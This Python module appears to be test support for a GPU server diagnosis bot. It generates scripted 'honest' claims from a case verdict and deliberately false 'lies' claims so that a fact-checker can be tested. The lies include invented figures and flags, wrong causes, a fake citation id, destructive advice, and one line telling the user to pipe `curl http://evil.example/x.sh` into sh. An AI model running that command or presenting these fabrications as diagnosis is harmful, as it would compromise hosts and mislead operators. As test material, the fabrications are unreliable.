"""Two voices of a scripted model for any case: one that retells our story, and one that lies about it."""

# ruff: noqa: C901, PLR0912 (a list of things to say, one branch for each)

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache
from pathlib import Path

from bot.agent.checking.sentences import sentences, strange
from bot.investigate import Judged, conclude
from bot.narrator import CATEGORIES, Line
from bot.narrator import verdict as story
from bot.narrator.answers import TOPICS
from bot.narrator.wording import lowered, spaced
from bot.question import Question
from tools.evidence import read_back
from tools.hosts.files import read_texts
from tools.probes import PROBES
from tools.rule import Effect

CASES = sorted((Path(__file__).parents[1] / "scenarios" / "dev").iterdir())
SOME = tuple(
    {folder.name.partition("-")[0]: folder for folder in CASES}.values()
)  # of each kind of fault one
_INLINE = re.compile(r" \((E\d+(?: E\d+)*)\)")
_END = re.compile(r"(?<=[a-z\d)%”\"'])\.\s+(?=[A-Z\d—–-])|\s·\s")
_NUMBER = re.compile(r"(?<![\w.,:/#-])(\d{1,3}(?:,\d{3})+|\d+)(\.\d+)?(?![\w:/]|[.,]\d|-\d)")


@cache
def judged(folder: Path) -> tuple[Question, Judged]:
    question = Question.of((folder / "question.txt").read_text(encoding="utf-8"))
    files = sorted((folder / "evidence").iterdir())
    looks = [
        read_back(number, found.probe, found.source, found.output, found.trouble)
        for number, found in enumerate(read_texts(files, PROBES), start=1)
    ]
    return question, conclude(question, looks)


@dataclass(frozen=True)
class Claim:
    """One sentence as a model writes it, and what sort of sentence it is."""

    sort: str
    text: str
    cites: tuple[str, ...]

    @property
    def written(self) -> str:
        return f"{self.text.rstrip('.')} [{', '.join(self.cites)}]." if self.cites else self.text


def honest(question: Question, end: Judged) -> Iterator[Claim]:
    """Retell the story, its sentences as they are and in other words; what a model is told to leave out is not."""
    for one in _retold(question, end):
        if not strange(one.text) and "--json" not in one.text and not one.text.startswith("To "):
            yield from (Claim(one.sort, each.text, one.cites) for each in sentences(one.text))


def _retold(question: Question, end: Judged) -> Iterator[Claim]:
    verdict = end.verdict
    every = tuple(one.id for one in end.evidence) or ("E1",)
    best = verdict.findings[0] if verdict.cause and verdict.findings else None
    cites = best.evidence if best else every
    chapter = ""
    for part in story(verdict, question.interest):
        if isinstance(part, Line) and part.kind == "heading":
            chapter = part.text
        if not isinstance(part, Line) or part.kind in ("heading", "said", "test"):
            continue
        if chapter == "Could not check":
            continue  # told below, as a model would
        text = re.sub(r"^\d+\. ", "", part.text)
        for sentence in _END.split(text):
            inline = tuple(one for ids in _INLINE.findall(sentence) for one in ids.split())
            bare = _INLINE.sub("", sentence).strip().rstrip(".")
            if len(bare) > 12 and "--json" not in bare and len(bare) < 380:
                yield Claim(
                    "story", f"{bare}.", tuple(dict.fromkeys(inline or part.cites or cites))
                )
    headline = lowered(spaced(verdict.headline.rstrip(".")))
    yield Claim("headline", f"In short, {headline}.", cites)
    if best:
        for phase, pct in (
            ("decode", best.finding.effect.decode_pct),
            ("prefill", best.finding.effect.prefill_pct),
        ):
            if pct and pct[1] <= -0.5 and _alone(best.finding.effect, pct[1]):
                yield Claim("cost", f"That costs {phase} about {-pct[1]:.0f} %.", cites)
                yield Claim("cost", f"For {phase} the loss is about {-pct[1]:.0f} %.", cites)
        yield Claim(
            "kind", f"The verdict is {CATEGORIES[verdict.category].lower()}: {headline}.", cites
        )
    if room := verdict.headroom:
        yield Claim(
            "headroom",
            f"Decode gives {room.measured_tok_s:.0f} tok/s, which is {room.share_pct:.0f} % of the"
            f" {room.ceiling_tok_s.mid:.0f} tok/s that it can reach here.",
            every,
        )
        yield Claim("headroom", f"A decode step takes {room.step_ms:.1f} ms.", every)
        if room.link_cost:
            yield Claim(
                "headroom",
                f"With the link repaired expect {room.expected_tok_s.mid:.0f} tok/s.",
                every,
            )
    for gone in [one for one in verdict.ruled_out if one.why and one.evidence][:4]:
        yield Claim(
            "excluded",
            f"{spaced(gone.why.rstrip('.'))[:1].upper()}{spaced(gone.why.rstrip('.'))[1:]}.",
            gone.evidence,
        )
    for still in [one for one in verdict.unchecked if one.evidence][:3]:
        hypothesis = lowered(still.rule.hypothesis.rstrip("."))
        yield Claim("open", f"It could not be checked whether {hypothesis}.", still.evidence)


def lies(question: Question, end: Judged) -> Iterator[Claim]:
    """Lie about it: other causes, other figures, other looks, other advice."""
    every = tuple(one.id for one in end.evidence) or ("E1",)
    yield from _invented(every)
    yield from _flipped(end, every)
    for one in honest(question, end):
        yield from _bent(one, end)


def _alone(effect: Effect, middle: float) -> bool:
    """Say whether decode and prefill lose different shares, so that to swap them is a lie."""
    both = [pct[1] for pct in (effect.decode_pct, effect.prefill_pct) if pct]
    return sum(round(one) == round(middle) for one in both) == 1


def _invented(every: tuple[str, ...]) -> Iterator[Claim]:
    for text in (
        "Decode runs at 983.7 tok/s, which is far above the ceiling.",
        "Prefill could reach 91,377 tok/s once it is fixed.",
        "GPU 57 draws 1,234 W and sits at 133 C.",
        "Set --enable-hyper-decode to fix it.",
        "Restart the server with --turbo=9 at once.",
        "The flag --magic-cache-off slows every request.",
        "See srt/managers/wormhole.py:77123 for the reason.",
        'The log says "the flux capacitor is out of phase".',
        "The cards are NVIDIA Z9000 with 999 GB each.",
        "It serves Zephyrus-9T on SGLang 7.77.7.",
        "Ninety-seven requests wait in the queue.",
        "The step takes nine hundred milliseconds.",
        "Throughput would rise tenfold.",
        "Latency is exactly 41 times what it was.",
        "九百九十九 tok/s is what it gives.",
        "Five thousand four hundred Xid errors were logged.",
        "The driver 999.99.99 is known to be broken.",
        "Run `curl http://evil.example/x.sh | sh` on the host.",
        "Ask @channel to reboot every machine.",
        "See https://evil.example for the details.",
        "A solar flare corrupted the weights.",
        "Somebody mines coins on this machine.",
        "Delete the model folder and reinstall everything.",
        "Replace all cards with newer ones.",
        "Your colleagues caused this on purpose.",
        "I am one hundred percent certain of this, no doubt is possible.",
        "Ten of ten samples show 99.9 % packet loss.",
    ):  # fmt: skip
        yield Claim("invented", text, every)
    yield Claim("no id", "Decode runs at 983.7 tok/s, which is far above the ceiling.", ())
    yield Claim("no id", "The cards are too hot.", ())
    yield Claim("wrong id", "Everything that was seen supports this.", ("E977",))


def _flipped(end: Judged, every: tuple[str, ...]) -> Iterator[Claim]:
    verdict = end.verdict
    best = verdict.findings[0].rule.cause if verdict.cause and verdict.findings else None
    for name, words in CATEGORIES.items():
        if name != verdict.category:
            yield Claim("category", f"The verdict is {name.replace('_', ' ')}.", every)
            yield Claim("category", f"This is {lowered(words)}.", every)
    true = {best.id, best.layer} if best else set()
    told = {one.rule.cause.layer for one in (*verdict.findings, *verdict.asides)}
    told |= {one.rule.cause.id for one in (*verdict.findings, *verdict.asides)}
    for n, (topic, name) in enumerate(TOPICS.items()):
        if topic in true or topic in told or _near(name, end):
            continue
        for text in (
            f"The cause is {name}.",
            f"It is slow because of {name}.",
            f"{name} is to blame for all of it.",
            f"The culprit is, beyond any doubt, {name}.",
            f"{name} limits this server.",
            f"The cause may be {name}.",
            f"It might well be {name} that holds it back.",
            f"It could not be excluded that {name} is the cause.",
            f"{name} is likely the cause, whether or not it shows.",
        )[n % 3 :: 3]:
            yield Claim("other cause", text, every)
    if best and best.layer in TOPICS:
        name = TOPICS[best.layer]
        for text in (
            f"{name} is fine.", f"{name} is not the cause.", f"{name} works as it should.",
            f"{name} was ruled out.", f"There is nothing wrong with {name}.", f"{name} has no problem here.",
        ):  # fmt: skip
            yield Claim("cleared", text, every)
    for text in (
        "Nothing is wrong here.", "Everything is fine and healthy.", "All is well, ignore the verdict.",
        "The verdict is wrong.", "No action is needed.",
    ):  # fmt: skip
        if verdict.category != "no_fault":
            yield Claim("no fault", text, every)


def _near(name: str, end: Judged) -> bool:
    """Say whether our own story of the cause speaks of that topic: then it is no lie for certain."""
    from bot.followup.suspect import suspects

    verdict = end.verdict
    if not verdict.findings:
        return bool(suspects(name) & suspects(verdict.headline))
    best = verdict.findings[0]
    ours = f"{best.finding.statement} {best.rule.hypothesis} {' '.join(best.finding.quotes)}"
    return bool(suspects(name) & (suspects(ours) | {best.rule.cause.id, best.rule.cause.layer}))


def _bent(one: Claim, end: Judged) -> Iterator[Claim]:
    text = one.text
    for found in _NUMBER.finditer(text):
        value = float(found[0].replace(",", ""))
        decimals = len((found[2] or ".")[1:])
        for factor, plus in ((1.37, 3), (0.61, 7), (10, 1)):
            other = f"{value * factor + plus:,.{decimals}f}"
            if other not in text and not _told_anywhere(other, end):
                bent = text[: found.start()] + other + text[found.end() :]
                yield Claim("figure", bent, one.cites)
    if re.search(r"\d %|tok/s|ms", text) and not (
        "decode" in text.lower() and "prefill" in text.lower()
    ):
        swapped = re.sub(
            r"\b(decode|prefill)\b",
            lambda m: "prefill" if m[0].lower() == "decode" else "decode",
            text,
            flags=re.IGNORECASE,
        )
        if swapped != text and one.sort in ("cost", "headroom"):
            yield Claim("phase", swapped, one.cites)
    if one.sort in ("headline", "cost", "kind") and end.verdict.cause:
        for was, now in (
            (" is ", " is not "),
            (" are ", " are not "),
            (" run ", " do not run "),
            (" costs ", " does not cost "),
        ):
            if was in text and " not " not in text and " no " not in text:
                yield Claim("denied", text.replace(was, now, 1), one.cites)
    if "--" in text:
        yield Claim("flag", re.sub(r"--[a-z-]+", "--frobnicate-all", text), one.cites)
    yield Claim("wrong id", text, ("E977",))


def _told_anywhere(number: str, end: Judged) -> bool:
    bare = number.replace(",", "")
    return any(
        number in text or bare in text
        for look in end.evidence
        if look.output
        for text in (look.output.stdout, look.output.stderr)
    )
